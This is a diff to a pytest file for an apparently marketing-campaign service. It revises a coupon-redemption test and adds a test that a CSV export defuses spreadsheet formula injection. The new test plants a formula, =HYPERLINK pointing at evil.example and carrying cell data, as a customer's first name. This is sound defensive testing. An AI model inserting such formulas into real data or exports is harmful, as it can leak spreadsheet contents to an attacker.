@@ -28,7 +28,7 @@ from tests.campaigns.conftest import (
     free_port,
     roots,
 )
-from tests.factories import track
+from tests.factories import identify, track
 
 OWNER = system_caller()
 
@@ -361,11 +361,18 @@ def test_treatment_gets_single_use_coupons_redeemed_only_by_their_owner(
             "Order Completed", user, timestamp="2026-06-03T10:00:00Z", total=20, coupon=code.lower()
         )
 
-    services.intake.ingest([order(other_ref)], source=Source("shop", "web"))
-    services.intake.ingest([order(owner_ref)], source=Source("shop", "web"))
-    result = services.intake.ingest([order(owner_ref)], source=Source("shop", "web"))
+    answers = [
+        services.intake.ingest([order(ref)], source=Source("shop", "web"))
+        for ref in (other_ref, owner_ref, owner_ref)
+    ]
 
-    assert result.accepted == 1  # intake stores the order whatever the coupon's fate
+    # Intake stores the order whatever the coupon's fate, and tells the sender that fate.
+    assert [a.accepted for a in answers] == [1, 1, 1]
+    assert [(c.index, c.code, c.redeemed, c.reason) for a in answers for c in a.coupons] == [
+        (0, code, False, "not_theirs"),
+        (0, code, True, None),
+        (0, code, False, "used"),
+    ]
     coupon, refusals = services.campaigns.coupon(OWNER, code)
     assert coupon.customer_id == owner and coupon.redeemed_at is not None
     assert [(who, why) for who, why, _ in refusals] == [(other, "not_theirs"), (owner, "used")]
@@ -587,3 +594,27 @@ def test_preview_of_a_draft_says_what_the_funnel_decides_for_that_customer_now(
         "not in the audience when it was assigned",
         True,
     )
+
+
+def test_an_export_never_hands_a_spreadsheet_a_formula_from_a_customers_name(
+    services: Services, tmp_path: Path
+) -> None:
+    services = campaign_services(services)
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    messages = []
+    for ref in ("c1", "c2", "c3", "c4"):
+        message = identify(ref, email=f"{ref}@example.com", first_name=attack)
+        message["context"] = {"consent": {"categoryPreferences": {"marketing_email": True}}}
+        messages.append(message)
+    services.intake.ingest(messages, source=Source("shop", "web"))
+    customers = roots(services, "c1", "c2", "c3", "c4")
+    add_segment(services, "everyone", customers)
+    body = "{{ customer.first_name }}"
+    campaign_id = _campaign(services, channel="export", subject=body, body=body)
+    output = tmp_path / "spring.csv"
+
+    report = services.campaigns.send(OWNER, campaign_id, output=output, now=NOW)
+
+    rows = list(csv.DictReader(output.open(newline="")))
+    assert len(rows) == report.sent > 0
+    assert {(row["subject"], row["text"]) for row in rows} == {("'" + attack, "'" + attack)}
